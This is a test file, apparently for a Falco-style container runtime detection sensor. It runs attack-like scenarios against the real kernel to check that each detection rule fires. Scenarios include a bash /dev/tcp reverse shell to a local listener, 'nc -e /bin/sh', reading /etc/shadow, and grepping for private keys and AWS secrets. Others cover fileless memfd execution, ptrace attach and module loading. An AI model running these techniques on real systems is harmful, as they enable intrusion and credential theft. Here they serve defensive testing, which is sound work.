# SPDX-License-Identifier: Apache-2.0
"""Every rule of the default ruleset (config/rules/klaxon_rules.yaml) against
the real kernel: one real attack-like scenario that must alert, and one benign
look-alike that must not.

One nats-server and one klaxon-sensor serve the whole module; the sensor
loads the default rules plus test_overrides.yaml (tuned the Falco way) and
creates KLAXON_ALERTS itself, which the tests read directly (no hub).

Containers are simulated as in test_sensor.py: every scenario gets fresh
cgroup v2 directories named like containerd's
(.../klaxon-test.slice/cri-containerd-<64 hex>.scope) and runs its programs
inside them (`sh -c 'echo $$ > cgroup.procs && exec "$@"'`), so alerts are
matched by (rule, container.id) and scenarios cannot confuse each other.
Benign counterparts run in a container of their own, or on the host where
the rule only looks at containers.

Root, BPF and cgroup v2 are required: without them these tests FAIL.
"""
import errno
import json
import os
import platform
import re
import secrets
import shlex
import shutil
import signal
import socket
import subprocess
import time
from pathlib import Path

import pytest

from conftest import NatsServer, wait_for
from test_sensor import NODE, Sensor, cgroups, require_root  # noqa: F401 (cgroups: fixture)

REPO = Path(__file__).resolve().parents[2]
RULES = REPO / "config" / "rules" / "klaxon_rules.yaml"
PYTHON = "/usr/bin/python3"
STREAM = "KLAXON_ALERTS"
SLACK = 0.5  # seconds after the positive alert before "no alert" is trusted

OVERRIDES = """\
# Test tuning of the default rules, loaded after klaxon_rules.yaml.
- list: k8s_api_server_ips
  items: ["127.0.0.77"]
  override:
    items: replace
"""


def default_rules():
    """{rule name: (Priority, [tags])} from the default ruleset, read without
    a YAML library (Debian's python3 has none): the file's layout is fixed."""
    rules, cur = {}, None
    for line in RULES.read_text().splitlines():
        m = re.match(r"- rule: (.+?)\s*$", line)
        if m:
            cur = m.group(1)
            rules[cur] = [None, None]
            continue
        if cur is None:
            continue
        m = re.match(r"  priority: (\w+)", line)
        if m:
            rules[cur][0] = m.group(1).capitalize()
        m = re.match(r"  tags: \[(.*)\]", line)
        if m:
            rules[cur][1] = [t.strip() for t in m.group(1).split(",")]
    return {k: tuple(v) for k, v in rules.items()}


RULESET = default_rules()


# ------------------------------------------------------------- the rig
class AlertLog:
    """Every alert of KLAXON_ALERTS, read incrementally."""

    def __init__(self, client):
        self.c = client
        self.next_seq = 1
        self.alerts = []  # (arrival time, alert dict)

    def poll(self):
        for seq, subject, _hdrs, data in self.c.stream_msgs_since(STREAM, self.next_seq):
            self.next_seq = seq + 1
            a = json.loads(data)
            a["_subject"] = subject
            self.alerts.append((time.time(), a))
        return [a for _, a in self.alerts]


class Rig:
    """One nats-server and one klaxon-sensor; close() stops whatever was
    started, also when start() failed half-way."""

    def __init__(self, tmp):
        self.tmp = tmp
        self.nats = self.sensor = self.client = self.log = None

    def start(self):
        tmp = self.tmp
        self.nats = NatsServer.__new__(NatsServer)  # visible to close() even if
        self.nats.__init__(tmp)                     # it fails to come up
        overrides = tmp / "test_overrides.yaml"
        overrides.write_text(OVERRIDES)
        self.sensor = Sensor(tmp, self.nats.url, "sensor", ensure_stream="true",
                             rules_files=json.dumps([str(RULES), str(overrides)]),
                             metrics_port=0)
        wait_for(lambda: re.search(r"\battached\b", self.sensor.text())
                 or self.sensor.proc.poll() is not None, 30, what="the sensor to attach")
        assert self.sensor.proc.poll() is None, (
            "klaxon-sensor exited with %s before attaching:\n%s"
            % (self.sensor.proc.returncode, self.sensor.text()))
        # ensure_stream: the sensor creates KLAXON_ALERTS before its first
        # publish, so the stream appears with the first alert; until then
        # the log reads as empty.
        self.client = self.nats.client()
        self.log = AlertLog(self.client)

    def log_tail(self, n=40):
        return "\n".join(self.sensor.text().splitlines()[-n:])

    def close(self):
        if self.client:
            self.client.close()
        if self.sensor and self.sensor.proc.poll() is None:
            self.sensor.proc.send_signal(signal.SIGTERM)
            try:
                self.sensor.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.sensor.kill()
        if self.nats and self.nats.proc and self.nats.proc.poll() is None:
            self.nats.proc.terminate()
            try:
                self.nats.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.nats.proc.kill()
                self.nats.proc.wait(10)


@pytest.fixture(scope="module")
def rig(tmp_path_factory):
    require_root()
    assert platform.machine() == "x86_64", "the raw syscall numbers below are x86_64's"
    r = Rig(tmp_path_factory.mktemp("rules_e2e"))
    try:
        r.start()
        yield r
    finally:
        r.close()


class Ctr:
    """A simulated container: a cgroup named like containerd's."""

    def __init__(self, path, full_id):
        self.path = path
        self.full_id = full_id
        self.id = full_id[:12]

    def __repr__(self):
        return "container %s" % self.id


class Ran:
    def __init__(self, pid, rc, out, err):
        self.pid, self.rc, self.out, self.err = pid, rc, out, err


def fields(a):
    return a.get("output_fields") or {}


def brief(a):
    f = fields(a)
    return "%s [%s] pid=%s name=%s type=%s: %s" % (
        a.get("rule"), f.get("container.id"), f.get("proc.pid"), f.get("proc.name"),
        f.get("evt.type"), a.get("output"))


class Env:
    """What one scenario needs: containers, runners, alert expectations and
    cleanups that run on every path."""

    def __init__(self, rig, cgroups, tmp):
        self.rig = rig
        self._cgroups = cgroups
        self.tmp = tmp
        self.ctrs = []
        self.procs = []
        self.cleanups = []
        self.last_hit = 0.0
        self.hex = secrets.token_hex(6)
        assert rig.sensor.proc.poll() is None, (
            "klaxon-sensor is gone (rc %s):\n%s" % (rig.sensor.proc.returncode, rig.log_tail()))

    # -- containers and processes ------------------------------------------
    def ctr(self):
        full_id = secrets.token_hex(32)
        c = Ctr(self._cgroups("cri-containerd-%s.scope" % full_id), full_id)
        self.ctrs.append(c)
        return c

    def defer(self, fn, *args, **kw):
        self.cleanups.append(lambda: fn(*args, **kw))

    def start(self, ctr, argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
              stderr=subprocess.PIPE, env=None, cwd=None):
        """Starts argv inside ctr (None: on the host, in our own cgroup)."""
        argv = [str(a) for a in argv]
        if ctr is not None:
            procs = shlex.quote(str(ctr.path / "cgroup.procs"))
            argv = ["/bin/sh", "-c", 'echo $$ > %s && exec "$@"' % procs, "sh"] + argv
        p = subprocess.Popen(argv, stdin=stdin, stdout=stdout, stderr=stderr, env=env,
                             cwd=cwd, start_new_session=True)
        self.procs.append(p)
        return p

    def run(self, ctr, argv, timeout=15, **kw):
        p = self.start(ctr, argv, **kw)
        try:
            out, err = p.communicate(timeout=timeout)
        except subprocess.TimeoutExpired:
            p.kill()
            p.communicate()
            raise AssertionError("%s did not finish in %ss" % (argv, timeout))
        return Ran(p.pid, p.returncode, out or b"", err or b"")

    def ok(self, ctr, argv, **kw):
        r = self.run(ctr, argv, **kw)
        assert r.rc == 0, "%s failed (%s): %s" % (argv, r.rc, r.err.decode(errors="replace"))
        return r

    def copy_exe(self, src, dst):
        shutil.copy2(src, dst)
        os.chmod(dst, 0o755)
        self.defer(lambda: Path(dst).unlink(missing_ok=True))
        return Path(dst)

    # -- alerts ------------------------------------------------------------
    def alerts(self, rule=None):
        return [a for a in self.rig.log.poll() if rule is None or a.get("rule") == rule]

    def expect(self, rule, ctr, pred=None, timeout=8.0):
        """Waits for alerts of rule in ctr (and matching pred); checks the
        envelope and returns them."""
        assert rule in RULESET, "%r is not a rule of %s" % (rule, RULES)

        def mine():
            return [a for a in self.alerts(rule)
                    if fields(a).get("container.id") == ctr.id and (pred is None or pred(a))]
        try:
            got = wait_for(mine, timeout, interval=0.05, what="%r in %r" % (rule, ctr))
        except AssertionError:
            seen = [brief(a) for a in self.alerts() if fields(a).get("container.id") == ctr.id]
            same_rule = [brief(a) for a in self.alerts(rule)][-5:]
            raise AssertionError(
                "no %r alert for %r within %.0fs\nalerts of this container:\n  %s\n"
                "latest alerts of this rule:\n  %s\nsensor log tail:\n%s"
                % (rule, ctr, timeout, "\n  ".join(seen) or "(none)",
                   "\n  ".join(same_rule) or "(none)", self.rig.log_tail())) from None
        self.last_hit = time.time()
        for a in got:
            print("alert:", brief(a))  # shown when the test fails
        priority, tags = RULESET[rule]
        for a in got:
            f = fields(a)
            assert a["priority"] == priority, brief(a)
            assert a.get("source") == "syscall", a
            assert a.get("hostname") == NODE, a
            assert a.get("_subject") == "klaxon.alerts.test_node", a
            assert a.get("tags") == tags, a
            assert f.get("container.full_id") == ctr.full_id, a
            assert ("container_id=%s" % ctr.id) in a.get("output", ""), a
            assert a.get("uuid") and a.get("time"), a
        return got

    def expect_none(self, rule, ctr=None, pid=None):
        """No alert of rule for ctr (or, on the host, for pid), trusting the
        roughly ordered ring buffer once SLACK has passed since the positive."""
        assert ctr is not None or pid is not None
        wait = self.last_hit + SLACK - time.time()
        if wait > 0:
            time.sleep(wait)

        def matches(a):
            f = fields(a)
            if ctr is not None:
                return f.get("container.id") == ctr.id
            return f.get("proc.pid") == pid
        bad = [brief(a) for a in self.alerts(rule) if matches(a)]
        assert not bad, "benign counterpart alerted:\n  " + "\n  ".join(bad)

    # -- teardown ----------------------------------------------------------
    def close(self):
        errors = []
        for c in self.ctrs:  # every process of a test container is ours
            try:
                if c.path.exists():
                    (c.path / "cgroup.kill").write_text("1")
            except OSError as e:
                errors.append("cgroup.kill %s: %s" % (c.path, e))
        for p in self.procs:
            if p.poll() is None:
                try:
                    os.killpg(p.pid, signal.SIGKILL)
                except OSError:
                    pass
                try:
                    p.wait(5)
                except subprocess.TimeoutExpired as e:
                    errors.append(str(e))
            for s in (p.stdout, p.stderr):
                if s:
                    s.close()
        for fn in reversed(self.cleanups):
            try:
                fn()
            except Exception as e:  # noqa: BLE001 - run every cleanup, report all
                errors.append(repr(e))
        for c in self.ctrs:
            try:
                wait_for(lambda: not c.path.exists()
                         or not (c.path / "cgroup.procs").read_text().split(), 5,
                         what="%s to empty" % c.path)
            except (AssertionError, OSError) as e:
                errors.append(str(e))
        assert not errors, "cleanup failed: %s" % errors


@pytest.fixture
def env(rig, cgroups, tmp_path):
    e = Env(rig, cgroups, tmp_path)
    try:
        yield e
    finally:
        e.close()


# ---------------------------------------------------------- helpers
def py(code):
    return [PYTHON, "-c", code]


SYSCALL_PY = r"""
import ctypes, errno, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[a if isinstance(a, (bytes, ctypes.Array))
                                          else ctypes.c_long(a) for a in args])
    e = ctypes.get_errno() if r < 0 else 0
    return r, e
"""


def unlink_quiet(*paths):
    for p in paths:
        Path(p).unlink(missing_ok=True)


def listener(host, port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((host, port))
    s.listen(8)
    return s


# --------------------------------------------------- the scenarios
# Each takes an Env; the benign counterpart runs first, so by the time the
# positive alert is in, the benign one's events were processed too.

def s_terminal_shell(env):
    rule = "Terminal shell in container"
    quiet = env.ctr()
    env.ok(quiet, ["/bin/true"])
    bad = env.ctr()
    r = env.ok(bad, ["sh", "-c", "true"])
    got = env.expect(rule, bad)
    assert len(got) == 1, [brief(a) for a in got]
    f = fields(got[0])
    assert f["proc.pid"] == r.pid and f["proc.name"] == "sh", got[0]
    assert f["evt.type"] == "execve", got[0]
    assert f["proc.cmdline"] == "sh -c true", got[0]
    env.expect_none(rule, quiet)


def s_run_shell_untrusted(env):
    rule = "Run shell untrusted"
    worker = env.copy_exe("/bin/bash", env.tmp / "worker")
    nginx = env.copy_exe("/bin/bash", env.tmp / "nginx")
    quiet = env.ctr()
    env.ok(quiet, [worker, "-c", "sh -c true; true"])
    bad = env.ctr()
    r = env.ok(bad, [nginx, "-c", "sh -c true; true"])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["proc.name"] == "sh" and f["proc.pname"] == "nginx", a
    assert f["proc.ppid"] == r.pid and f["evt.type"] == "execve", a
    assert f["proc.cmdline"] == "sh -c true", a
    assert "parent_exepath=%s" % nginx in a["output"], a
    env.expect_none(rule, quiet)


def s_read_sensitive_file(env):
    rule = "Read sensitive file untrusted"
    quiet = env.ctr()
    env.ok(quiet, ["cat", "/etc/hostname"])
    bad = env.ctr()
    r = env.ok(bad, ["cat", "/etc/shadow"], stdout=subprocess.DEVNULL)
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["fd.name"] == "/etc/shadow" and f["proc.name"] == "cat", a
    assert f["proc.pid"] == r.pid, a
    assert f["evt.type"] in ("open", "openat", "openat2"), a
    env.expect_none(rule, quiet)


def s_write_below_binary_dir(env):
    rule = "Write below binary dir"
    target = Path("/usr/bin/kx-test-%s" % env.hex)
    env.defer(unlink_quiet, target)
    quiet = env.ctr()
    env.ok(quiet, ["touch", env.tmp / "x"])
    bad = env.ctr()
    r = env.ok(bad, ["touch", target])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["fd.name"] == str(target) and f["proc.name"] == "touch", a
    assert f["proc.pid"] == r.pid and f["evt.type"] in ("open", "openat", "openat2"), a
    env.expect_none(rule, quiet)


def s_write_below_etc(env):
    rule = "Write below etc"
    target = Path("/etc/kx-test-%s" % env.hex)
    env.defer(unlink_quiet, target)
    quiet = env.ctr()
    env.ok(quiet, ["cat", "/etc/hostname"])
    bad = env.ctr()
    r = env.ok(bad, ["touch", target])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["fd.name"] == str(target) and f["proc.name"] == "touch", a
    assert f["proc.pid"] == r.pid and f["evt.type"] in ("open", "openat", "openat2"), a
    env.expect_none(rule, quiet)


def s_clear_log(env):
    rule = "Clear Log Activities"
    trunc = Path("/var/log/kx-test-%s.log" % env.hex)
    append = Path("/var/log/kx-test-%s2.log" % env.hex)
    env.defer(unlink_quiet, trunc, append)
    quiet = env.ctr()
    env.ok(quiet, ["sh", "-c", "echo x >> %s" % append])
    bad = env.ctr()
    r = env.ok(bad, ["sh", "-c", ": > %s" % trunc])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["fd.name"] == str(trunc) and f["proc.name"] == "sh", a
    assert f["proc.pid"] == r.pid and f["evt.type"] in ("open", "openat", "openat2"), a
    env.expect_none(rule, quiet)


def s_remove_bulk_data(env):
    rule = "Remove Bulk Data from Disk"
    f1, f2 = env.tmp / "victim1", env.tmp / "victim2"
    f1.write_bytes(b"x" * 4096)
    f2.write_bytes(b"x" * 4096)
    quiet = env.ctr()
    env.ok(quiet, ["rm", f2])
    bad = env.ctr()
    r = env.ok(bad, ["shred", "-u", f1])
    assert not f1.exists() and not f2.exists()
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["proc.name"] == "shred" and f["proc.pid"] == r.pid, a
    assert f["evt.type"] == "execve" and f["proc.cmdline"] == "shred -u %s" % f1, a
    env.expect_none(rule, quiet)


def s_symlink_sensitive(env):
    rule = "Create Symlink Over Sensitive Files"
    quiet = env.ctr()
    env.ok(quiet, ["ln", "-s", "/etc/hostname", env.tmp / "l2"])
    bad = env.ctr()
    r = env.ok(bad, ["ln", "-s", "/etc/shadow", env.tmp / "l"])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] in ("symlink", "symlinkat") and f["proc.name"] == "ln", a
    assert f["evt.arg.target"] == "/etc/shadow", a
    assert f["evt.arg.linkpath"] == str(env.tmp / "l"), a
    assert f["proc.pid"] == r.pid, a
    env.expect_none(rule, quiet)


def s_hardlink_sensitive(env):
    rule = "Create Hardlink Over Sensitive Files"
    good_new = Path("/dev/shm/kx-%s2" % env.hex)
    bad_new = Path("/dev/shm/kx-%s" % env.hex)
    env.defer(unlink_quiet, good_new, bad_new)
    quiet = env.ctr()
    env.run(quiet, ["ln", "/etc/hostname", good_new])
    bad = env.ctr()
    # /dev/shm is another file system: EXDEV, no link to shadow ever exists,
    # and the attempt is what must be detected.
    r = env.run(bad, ["ln", "/etc/shadow", bad_new])
    assert r.rc != 0 and b"cross-device" in r.err.lower(), (r.rc, r.err)
    assert not bad_new.exists()
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] in ("link", "linkat") and f["proc.name"] == "ln", a
    assert f["evt.arg.oldpath"] == "/etc/shadow", a
    assert f["evt.arg.newpath"] == str(bad_new), a
    assert f["proc.pid"] == r.pid, a
    env.expect_none(rule, quiet)


def s_packet_socket(env):
    rule = "Packet socket created in container"
    quiet = env.ctr()
    env.ok(quiet, py("import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM)"))
    bad = env.ctr()
    r = env.ok(bad, py("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"))
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] == "socket" and f["proc.pid"] == r.pid, a
    assert f["proc.name"] == "python3", a
    assert f["evt.arg.domain"] == "AF_PACKET", a
    assert "SOCK_RAW" in f["evt.arg.type"], a
    env.expect_none(rule, quiet)


def s_reverse_shell(env):
    rule = "Redirect STDOUT/STDIN to Network Connection in Container"
    quiet = env.ctr()
    env.ok(quiet, ["bash", "-c", "echo hi > %s" % shlex.quote(str(env.tmp / "out"))])
    assert (env.tmp / "out").read_text() == "hi\n"

    srv = listener("127.0.0.1", 0)
    env.defer(srv.close)
    port = srv.getsockname()[1]
    mark = "KX_MARK_%s" % env.hex
    bad = env.ctr()
    shell_env = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "HOME": str(env.tmp), "TERM": "dumb"}
    p = env.start(bad, ["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % port],
                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=shell_env)
    srv.settimeout(10)
    conn, _ = srv.accept()
    env.defer(conn.close)
    conn.settimeout(10)
    # The shell computes 6*7: the marker only comes back if it really ran.
    conn.sendall(("echo %s_$((6*7)); exit\n" % mark).encode())
    data = b""
    while True:
        chunk = conn.recv(4096)
        if not chunk:
            break
        data += chunk
    assert ("%s_42" % mark).encode() in data, data
    assert p.wait(10) == 0
    got = env.expect(rule, bad)
    a = got[0]
    f = fields(a)
    assert f["evt.type"] in ("dup", "dup2", "dup3") and f["proc.name"] == "bash", a
    assert f["fd.type"] == "ipv4" and f["fd.l4proto"] == "tcp", a
    assert f["fd.rport"] == port and f["fd.sip"] == "127.0.0.1", a
    assert f["fd.name"].endswith("->127.0.0.1:%d" % port), a
    env.expect_none(rule, quiet)


def s_netcat_rce(env):
    rule = "Netcat Remote Code Execution in Container"
    nc = env.copy_exe("/bin/sleep", env.tmp / "nc")
    quiet = env.ctr()
    env.run(quiet, [nc, "-z", "127.0.0.1", "9"])
    bad = env.ctr()
    r = env.run(bad, [nc, "-e", "/bin/sh", "127.0.0.1", "9"])
    assert r.rc != 0  # it is sleep: the exec is what counts
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["proc.name"] == "nc" and f["proc.pid"] == r.pid, a
    assert f["proc.cmdline"] == "nc -e /bin/sh 127.0.0.1 9", a
    assert f["evt.type"] == "execve" and f["proc.exepath"] == str(nc), a
    env.expect_none(rule, quiet)


def s_k8s_api(env):
    rule = "Contact K8S API Server From Container"
    api, other = listener("127.0.0.77", 6443), listener("127.0.0.77", 6444)
    env.defer(api.close)
    env.defer(other.close)
    code = ("import socket; s = socket.create_connection(('127.0.0.77', %d), 5); "
            "print(s.getsockname()[1]); s.close()")
    quiet = env.ctr()
    env.ok(quiet, py(code % 6444))
    bad = env.ctr()
    r = env.ok(bad, py(code % 6443))
    lport = int(r.out.decode().strip())
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] == "connect" and f["proc.name"] == "python3", a
    assert f["proc.pid"] == r.pid and f["fd.rport"] == 6443 and f["fd.lport"] == lport, a
    assert f["fd.name"] == "127.0.0.1:%d->127.0.0.77:6443" % lport, a
    assert f["fd.type"] == "ipv4" and f["fd.l4proto"] == "tcp", a
    env.expect_none(rule, quiet)


def s_search_private_keys(env):
    rule = "Search Private Keys or Passwords"
    d = env.tmp / "haystack"
    d.mkdir()
    (d / "notes.txt").write_text("hello world\n")
    quiet = env.ctr()
    env.ok(quiet, ["grep", "-r", "hello", d])
    bad = env.ctr()
    r = env.run(bad, ["grep", "-r", "BEGIN RSA PRIVATE", d])
    assert r.rc == 1, r.err  # searched, found nothing
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["proc.name"] == "grep" and f["proc.pid"] == r.pid, a
    assert f["evt.type"] == "execve", a
    assert f["proc.cmdline"] == "grep -r BEGIN RSA PRIVATE %s" % d, a
    env.expect_none(rule, quiet)


def s_find_aws_credentials(env):
    rule = "Find AWS Credentials"
    cfg = env.tmp / "config"
    cfg.write_text("[default]\naws_region = eu-west-1\n")
    quiet = env.ctr()
    env.ok(quiet, ["grep", "aws_region", cfg])
    bad = env.ctr()
    r = env.run(bad, ["grep", "aws_secret_access_key", cfg])
    assert r.rc == 1, r.err
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["proc.name"] == "grep" and f["proc.pid"] == r.pid, a
    assert f["proc.cmdline"] == "grep aws_secret_access_key %s" % cfg, a
    env.expect_none(rule, quiet)


MODULE_PY = SYSCALL_PY + r"""
print("finit_module", *sc(313, -1, b"", 0))   # fd -1, no params, no flags
print("init_module", *sc(175, 0, 0, b""))     # no image
"""


def s_kernel_module(env):
    rule = "Linux Kernel Module Injection Detected"
    host = env.ok(None, py(MODULE_PY))
    bad = env.ctr()
    r = env.ok(bad, py(MODULE_PY))
    res = {}
    for line in r.out.decode().splitlines():
        name, ret, err = line.split()
        assert int(ret) == -1, line  # a module can never be loaded by this
        res[name] = errno.errorcode[int(err)]
    env.expect(rule, bad, pred=lambda a: fields(a).get("evt.type") == "init_module")
    got = env.expect(rule, bad)  # both, now that the later one is in
    by_type = {fields(a)["evt.type"]: a for a in got}
    assert set(by_type) == {"finit_module", "init_module"}, [brief(a) for a in got]
    for typ, a in by_type.items():
        f = fields(a)
        assert f["proc.pid"] == r.pid and f["proc.name"] == "python3", a
        # the failure (ENOSYS without module support) is in the alert
        assert f.get("evt.res") == res[typ] or "res=%s " % res[typ] in a["output"], (res, a)
    env.expect_none(rule, pid=host.pid)
    assert not [brief(a) for a in env.alerts(rule)
                if fields(a).get("container.id") == "host"], "container-only rule fired on host"


PTRACE_PY = SYSCALL_PY + r"""
import os, signal, time
child = os.fork()
if sys.argv[1] == "attach":
    if child == 0:
        time.sleep(30)
        os._exit(0)
    print(child, *sc(101, 16, child, 0, 0))          # PTRACE_ATTACH
    _, st = os.waitpid(child, 0)
    assert os.WIFSTOPPED(st), st
    assert sc(101, 17, child, 0, 0)[0] == 0          # PTRACE_DETACH
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
else:
    if child == 0:
        os._exit(0 if sc(101, 0, 0, 0, 0)[0] == 0 else 1)  # PTRACE_TRACEME
    _, st = os.waitpid(child, 0)
    print(child, os.WEXITSTATUS(st), 0)
"""


def s_ptrace(env):
    rule = "PTRACE attached to process"
    quiet = env.ctr()
    q = env.ok(quiet, py(PTRACE_PY) + ["traceme"])
    assert q.out.split()[1] == b"0", q.out  # PTRACE_TRACEME succeeded
    bad = env.ctr()
    r = env.ok(bad, py(PTRACE_PY) + ["attach"])
    child, ret, err = (int(x) for x in r.out.split())
    assert ret == 0 and err == 0, "PTRACE_ATTACH failed: errno %d" % err
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] == "ptrace" and f["proc.pid"] == r.pid, a
    assert f["proc.name"] == "python3", a
    assert f["evt.arg.request"] == "PTRACE_ATTACH", a
    assert str(f["evt.arg.pid"]) == str(child), a
    assert f["evt.res"] == "SUCCESS", a
    env.expect_none(rule, quiet)


MEMFD_PY = r"""
import os
fd = os.memfd_create("kx")
data = open("/bin/true", "rb").read()
while data:
    data = data[os.write(fd, data):]
os.execve(fd, ["kx"], {})
"""


def s_memfd_exec(env):
    rule = "Fileless execution via memfd_create"
    quiet = env.ctr()
    env.ok(quiet, py("import os; os.execv('/bin/true', ['true'])"))
    bad = env.ctr()
    r = env.ok(bad, py(MEMFD_PY))
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] == "execveat" and f["proc.pid"] == r.pid, a
    assert "memfd:kx" in f["proc.exepath"], a
    env.expect_none(rule, quiet)


def s_exec_dev_shm(env):
    rule = "Execution from /dev/shm"
    shm = env.copy_exe("/bin/true", "/dev/shm/kx-%s" % env.hex)
    plain = env.copy_exe("/bin/true", env.tmp / ("kx-%s" % env.hex))
    quiet = env.ctr()
    env.ok(quiet, [plain])
    bad = env.ctr()
    r = env.ok(bad, [shm])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] == "execve" and f["proc.pid"] == r.pid, a
    assert f["proc.exepath"] == str(shm) and f["proc.name"] == shm.name[:15], a
    env.expect_none(rule, quiet)


def s_drop_and_execute(env):
    rule = "Drop and execute new binary in container"
    root = env.tmp / "ovl"
    lower, upper, work, merged = (root / n for n in ("lower", "upper", "work", "merged"))
    for d in (lower, upper, work, merged):
        d.mkdir(parents=True)
    shutil.copy2("/bin/true", lower / "base")  # the "image"
    subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                    "lowerdir=%s,upperdir=%s,workdir=%s" % (lower, upper, work), str(merged)],
                   check=True, timeout=10)

    def umount():
        if subprocess.run(["umount", str(merged)], timeout=10).returncode != 0:
            subprocess.run(["umount", "-l", str(merged)], check=True, timeout=10)
    env.defer(umount)
    shutil.copy2("/bin/true", merged / "dropped")  # lands in the upper layer
    assert (upper / "dropped").exists() and not (upper / "base").exists()
    quiet = env.ctr()
    env.ok(quiet, [merged / "base"])
    assert not (upper / "base").exists()
    bad = env.ctr()
    r = env.ok(bad, [merged / "dropped"])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] == "execve" and f["proc.pid"] == r.pid, a
    assert f["proc.name"] == "dropped", a
    assert f["proc.exepath"] == str(merged / "dropped"), a
    env.expect_none(rule, quiet)


def s_release_agent(env):
    rule = "Detect release_agent File Container Escapes"
    quiet = env.ctr()
    env.ok(quiet, ["sh", "-c", "echo x > %s" % (env.tmp / "other_agent")])
    bad = env.ctr()
    r = env.ok(bad, ["sh", "-c", "echo x > %s" % (env.tmp / "release_agent")])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["fd.name"] == str(env.tmp / "release_agent"), a
    assert f["proc.pid"] == r.pid and f["proc.name"] == "sh", a
    assert f["user.uid"] == 0 and f["evt.type"] in ("open", "openat", "openat2"), a
    env.expect_none(rule, quiet)


def s_setuid_bit(env):
    rule = "Set Setuid or Setgid bit"
    f1, f2 = env.tmp / "suid", env.tmp / "plain"
    f1.write_text("x")
    f2.write_text("x")
    os.chmod(f1, 0o755)
    os.chmod(f2, 0o600)
    quiet = env.ctr()
    env.ok(quiet, ["chmod", "644", f2])
    bad = env.ctr()
    r = env.ok(bad, ["chmod", "u+s", f1])
    assert f1.stat().st_mode & 0o4000 and f2.stat().st_mode & 0o7777 == 0o644
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] in ("chmod", "fchmod", "fchmodat") and f["proc.pid"] == r.pid, a
    assert f["proc.name"] == "chmod" and "S_ISUID" in f["evt.arg.mode"], a
    assert f["evt.arg.filename"] == str(f1), a
    env.expect_none(rule, quiet)


def s_unshare(env):
    rule = "Change namespace privileges via unshare"
    host = env.ok(None, ["unshare", "--uts", "true"])
    bad = env.ctr()
    r = env.ok(bad, ["unshare", "--uts", "true"])
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] == "unshare" and f["proc.pid"] == r.pid, a
    assert f["proc.name"] == "unshare" and "CLONE_NEWUTS" in f["evt.arg.flags"], a
    assert f["evt.res"] == "SUCCESS", a
    env.expect_none(rule, pid=host.pid)
    assert not [brief(a) for a in env.alerts(rule)
                if fields(a).get("container.id") == "host"], "container-only rule fired on host"


BPF_PY = SYSCALL_PY + r"""
attr = ctypes.create_string_buffer(128)   # all zero: a bogus program / map
print(*sc(321, int(sys.argv[1]), attr, 128))
"""


def s_bpf(env):
    rule = "BPF program loaded by non-root-owned or container process"
    quiet = env.ctr()
    q = env.ok(quiet, py(BPF_PY) + ["0"])  # BPF_MAP_CREATE
    assert q.out.split()[0] == b"-1", q.out
    bad = env.ctr()
    r = env.ok(bad, py(BPF_PY) + ["5"])  # BPF_PROG_LOAD
    ret, err = (int(x) for x in r.out.split())
    # a bogus attr (insn_cnt 0): E2BIG on current kernels, EINVAL on others
    assert ret == -1 and err in (errno.E2BIG, errno.EINVAL), r.out
    a = env.expect(rule, bad)[0]
    f = fields(a)
    assert f["evt.type"] == "bpf" and f["proc.pid"] == r.pid, a
    assert f["proc.name"] == "python3" and f["evt.arg.cmd"] == "BPF_PROG_LOAD", a
    assert f["evt.res"] == errno.errorcode[err], a
    env.expect_none(rule, quiet)


SCENARIOS = {
    "Terminal shell in container": ("terminal_shell", s_terminal_shell),
    "Run shell untrusted": ("run_shell_untrusted", s_run_shell_untrusted),
    "Read sensitive file untrusted": ("read_sensitive", s_read_sensitive_file),
    "Write below binary dir": ("write_bin_dir", s_write_below_binary_dir),
    "Write below etc": ("write_etc", s_write_below_etc),
    "Clear Log Activities": ("clear_log", s_clear_log),
    "Remove Bulk Data from Disk": ("remove_bulk_data", s_remove_bulk_data),
    "Create Symlink Over Sensitive Files": ("symlink_sensitive", s_symlink_sensitive),
    "Create Hardlink Over Sensitive Files": ("hardlink_sensitive", s_hardlink_sensitive),
    "Packet socket created in container": ("packet_socket", s_packet_socket),
    "Redirect STDOUT/STDIN to Network Connection in Container":
        ("reverse_shell", s_reverse_shell),
    "Netcat Remote Code Execution in Container": ("netcat_rce", s_netcat_rce),
    "Contact K8S API Server From Container": ("k8s_api", s_k8s_api),
    "Search Private Keys or Passwords": ("private_keys", s_search_private_keys),
    "Find AWS Credentials": ("aws_credentials", s_find_aws_credentials),
    "Linux Kernel Module Injection Detected": ("kernel_module", s_kernel_module),
    "PTRACE attached to process": ("ptrace", s_ptrace),
